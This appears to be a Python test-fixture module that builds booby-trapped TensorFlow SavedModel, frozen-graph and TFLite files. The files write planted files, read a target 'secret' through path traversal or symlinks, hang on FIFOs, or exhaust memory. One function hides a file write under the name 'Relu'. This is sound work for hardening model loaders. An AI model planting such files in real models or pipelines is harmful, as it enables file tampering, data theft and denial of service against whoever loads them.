"""Graphs of TensorFlow and TensorFlow Lite that are made to do harm when they are opened: write, read or start a program.

Each function writes a file or folder into ``folder`` and returns its path. What it tries to write or read is below ``target``.
"""

from __future__ import annotations

import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

Make = Callable[[Path, Path], Path]


def _frozen(folder: Path, graph: Any) -> Path:
    (folder / "m.pb").write_bytes(graph.SerializeToString())
    return folder / "m.pb"


def _tf_graph(body: Callable[[Any, Any], Any]) -> Any:
    """A frozen graph: ``body`` of TensorFlow and the input ``x`` makes the output ``y``."""
    import tensorflow as tf

    with tf.Graph().as_default() as graph:
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        tf.identity(body(tf, x), name="y")
    return graph.as_graph_def()


def frozen_printing_function(folder: Path, target: Path) -> Path:
    """A function that prints to wherever its caller says, and a caller that says a file."""
    from tensorflow.core.framework import attr_value_pb2

    graph = _tf_graph(lambda tf, x: tf.matmul(x, tf.constant([[1.0]] * 4)))
    function = graph.library.function.add()
    function.signature.name = "says"
    function.signature.input_arg.add(name="a", type=1)
    function.signature.output_arg.add(name="b", type=1)
    function.signature.attr.add(name="stream", type="string")
    text = function.node_def.add(name="text", op="Const")
    text.attr["dtype"].type = 7
    text.attr["value"].tensor.dtype = 7
    text.attr["value"].tensor.tensor_shape.SetInParent()
    text.attr["value"].tensor.string_val.append(b"x")
    shown = function.node_def.add(name="shown", op="PrintV2", input=["text:output:0"])
    shown.attr["output_stream"].placeholder = "stream"
    shown.attr["end"].s = b"\n"
    same = function.node_def.add(name="same", op="Identity", input=["a", "^shown"])
    same.attr["T"].type = 1
    function.ret["b"] = "same:output:0"
    function.control_ret["shown"] = "shown"
    function.signature.control_output.append("shown")
    function.signature.is_stateful = True
    call = graph.node.add(name="call", op="StatefulPartitionedCall", input=["y"])
    call.attr["Tin"].list.type.append(1)
    call.attr["Tout"].list.type.append(1)
    call.attr["f"].func.name = "says"
    call.attr["f"].func.attr["stream"].CopyFrom(attr_value_pb2.AttrValue(s=f"file://{target}/planted".encode()))
    last = graph.node.add(name="z", op="Identity", input=["call"])
    last.attr["T"].type = 1
    return _frozen(folder, graph)


def frozen_table_from_pipe(folder: Path, _target: Path) -> Path:
    """A table that is filled from a pipe without a writer."""
    import tensorflow as tf

    os.mkfifo(folder / "words")
    with tf.Graph().as_default() as graph:
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
        filled = tf.raw_ops.InitializeTableFromTextFileV2(
            table_handle=table, filename=str(folder / "words"), key_index=-2, value_index=-1
        )
        with tf.control_dependencies([filled]):
            tf.identity(x * 2.0, name="y")
    return _frozen(folder, graph.as_graph_def())


def frozen_other_machine(folder: Path, _target: Path) -> Path:
    """Nodes that are to run on another machine."""
    graph = _tf_graph(lambda _, x: x * 2.0)
    for node in graph.node:
        node.device = "/job:worker/replica:0/task:0/device:CPU:0"
    return _frozen(folder, graph)


def frozen_picture(folder: Path, _target: Path) -> Path:
    """A picture in the graph that unpacks to 16 GiB."""
    header = struct.pack(">IIBBBBB", 65535, 65535, 8, 6, 0, 0, 0)

    def body(tf: Any, x: Any) -> Any:
        import zlib

        chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(bytes(10**6))), (b"IEND", b"")]
        png = b"".join(struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in chunks)
        picture = tf.raw_ops.DecodePng(contents=tf.constant(b"\x89PNG\r\n\x1a\n" + png), channels=4)
        return x + tf.reduce_sum(tf.cast(picture, tf.float32))

    return _frozen(folder, _tf_graph(body))


def frozen_debugger(folder: Path, target: Path) -> Path:
    """A node of the debugger, which writes what it sees to a file."""

    def body(tf: Any, x: Any) -> Any:
        seen = tf.raw_ops.DebugIdentityV3(input=x, tensor_name="x:0", debug_urls=[f"file://{target}/planted"])
        return seen * 2.0

    return _frozen(folder, _tf_graph(body))


def frozen_mapped_file(folder: Path, target: Path) -> Path:
    """A constant that lies in a file elsewhere."""

    def body(tf: Any, x: Any) -> Any:
        held = tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[4], memory_region_name=str(target / "secret"))
        return x + held

    return _frozen(folder, _tf_graph(body))


def frozen_function_named_like_an_operation(folder: Path, target: Path) -> Path:
    """A function that writes a file and has the name of an operation without effects."""
    import tensorflow as tf

    @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
    def writes(x: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=f"{target}/planted", contents="x")]):
            return tf.identity(x)

    graph = _tf_graph(lambda tensorflow, x: tensorflow.nn.relu(x))
    function = graph.library.function.add()
    function.CopyFrom(writes.get_concrete_function().function_def)
    function.signature.name = "Relu"
    return _frozen(folder, graph)


def frozen_gradient_that_writes(folder: Path, target: Path) -> Path:
    """A function that writes a file, registered as the gradient of another one."""
    import tensorflow as tf

    @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
    def writes(x: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=f"{target}/planted", contents="x")]):
            return tf.identity(x)

    graph = _tf_graph(lambda _, x: x * 2.0)
    function = writes.get_concrete_function().function_def
    graph.library.function.add().CopyFrom(function)
    graph.library.gradient.add(function_name=function.signature.name, gradient_func=function.signature.name)
    return _frozen(folder, graph)


def _saved_model(folder: Path) -> Path:
    import tensorflow as tf

    module = tf.Module()
    module.weight = tf.Variable(tf.ones((4, 2)))
    module.call = tf.function(
        lambda x: {"y": x @ module.weight}, input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")]
    )
    tf.saved_model.save(module, str(folder / "m"), signatures={"serving_default": module.call})
    return folder / "m"


def saved_model_graph_is_a_pipe(folder: Path, _target: Path) -> Path:
    place = _saved_model(folder)
    (place / "saved_model.pb").unlink()
    os.mkfifo(place / "saved_model.pb")
    return place


def saved_model_weights_are_a_pipe(folder: Path, _target: Path) -> Path:
    place = _saved_model(folder)
    file = next((place / "variables").glob("*.data*"))
    file.unlink()
    os.mkfifo(file)
    return place


def saved_model_asset_elsewhere(folder: Path, target: Path) -> Path:
    """A file of words that the description says lies elsewhere."""
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    (folder / "words.txt").write_text("a\nb\n")
    module = tf.Module()
    table = tf.lookup.StaticHashTable(
        tf.lookup.TextFileInitializer(
            str(folder / "words.txt"),
            tf.string,
            tf.lookup.TextFileIndex.WHOLE_LINE,
            tf.int64,
            tf.lookup.TextFileIndex.LINE_NUMBER,
        ),
        -1,
    )
    module.table = table
    module.call = tf.function(
        lambda x: {"y": x + tf.cast(table.size(), tf.float32)},
        input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")],
    )
    tf.saved_model.save(module, str(folder / "m"), signatures={"serving_default": module.call})
    place = folder / "m" / "saved_model.pb"
    content = saved_model_pb2.SavedModel.FromString(place.read_bytes())
    for asset in content.meta_graphs[0].asset_file_def:
        asset.filename = "../" * 20 + str(target / "secret")
    place.write_bytes(content.SerializeToString())
    return folder / "m"


def saved_model_loops_of_links(folder: Path, _target: Path) -> Path:
    """A folder that holds a link to itself."""
    place = _saved_model(folder)
    (place / "again").symlink_to(".")
    return place


def saved_model_fingerprint_is_a_pipe(folder: Path, _target: Path) -> Path:
    place = _saved_model(folder)
    (place / "fingerprint.pb").unlink(missing_ok=True)
    os.mkfifo(place / "fingerprint.pb")
    return place


def saved_model_index_is_a_device(folder: Path, _target: Path) -> Path:
    place = _saved_model(folder)
    (place / "variables" / "variables.index").unlink()
    (place / "variables" / "variables.index").symlink_to("/dev/zero")
    return place


def saved_model_weights_elsewhere(folder: Path, target: Path) -> Path:
    """Weights that are a link to a file elsewhere."""
    place = _saved_model(folder)
    file = next((place / "variables").glob("*.data*"))
    file.unlink()
    file.symlink_to(target / "secret")
    return place


def _tflite(folder: Path, change: Callable[[Any], None]) -> Path:
    import flatbuffers
    import tensorflow as tf
    from ai_edge_litert import schema_py_generated as schema

    content = tf.lite.TFLiteConverter.from_saved_model(str(_saved_model(folder))).convert()
    model = schema.ModelT.InitFromPackedBuf(content, 0)
    change(model)
    builder = flatbuffers.Builder()
    builder.Finish(model.Pack(builder), b"TFL3")
    (folder / "m.tflite").write_bytes(bytes(builder.Output()))
    return folder / "m.tflite"


def tflite_tensorflow_operation(folder: Path, _target: Path) -> Path:
    """An operation of TensorFlow that writes a file, which TensorFlow's interpreter would run."""

    def change(model: Any) -> None:
        code = model.operatorCodes[0]
        code.builtinCode, code.deprecatedBuiltinCode, code.customCode = 32, 32, b"FlexWriteFile"
        model.subgraphs[0].operators[0].builtinOptionsType = 0
        model.subgraphs[0].operators[0].builtinOptions = None

    return _tflite(folder, change)


def tflite_huge_tensor(folder: Path, _target: Path) -> Path:
    """Weights and results of 2^60 values."""

    def change(model: Any) -> None:
        graph = model.subgraphs[0]
        for number, tensor in enumerate(graph.tensors):
            if number not in graph.inputs:
                tensor.shape, tensor.shapeSignature = [2**30, 2**30], None

    return _tflite(folder, change)


def tflite_buffer_beyond(folder: Path, _target: Path) -> Path:
    """Weights that lie behind the end of the file."""

    def change(model: Any) -> None:
        for buffer in model.buffers[1:]:
            buffer.data, buffer.offset, buffer.size = None, 2**40, 2**20

    return _tflite(folder, change)


def tflite_calls_itself(folder: Path, _target: Path) -> Path:
    """A loop whose condition and body are the graph itself."""
    from ai_edge_litert import schema_py_generated as schema

    def change(model: Any) -> None:
        code = model.operatorCodes[0]
        code.builtinCode, code.deprecatedBuiltinCode = schema.BuiltinOperator.WHILE, schema.BuiltinOperator.WHILE
        operator = model.subgraphs[0].operators[0]
        operator.builtinOptionsType = schema.BuiltinOptions.WhileOptions
        operator.builtinOptions = schema.WhileOptionsT()
        operator.builtinOptions.condSubgraphIndex = operator.builtinOptions.bodySubgraphIndex = 0
        operator.inputs, operator.outputs = model.subgraphs[0].inputs, model.subgraphs[0].outputs

    return _tflite(folder, change)


TENSORFLOW: dict[str, Make] = {
    make.__name__: make
    for make in (
        frozen_printing_function,
        frozen_table_from_pipe,
        frozen_other_machine,
        frozen_picture,
        frozen_debugger,
        frozen_mapped_file,
        frozen_function_named_like_an_operation,
        frozen_gradient_that_writes,
        saved_model_graph_is_a_pipe,
        saved_model_weights_are_a_pipe,
        saved_model_asset_elsewhere,
        saved_model_loops_of_links,
        saved_model_fingerprint_is_a_pipe,
        saved_model_index_is_a_device,
        saved_model_weights_elsewhere,
        tflite_tensorflow_operation,
        tflite_huge_tensor,
        tflite_buffer_beyond,
        tflite_calls_itself,
    )
}
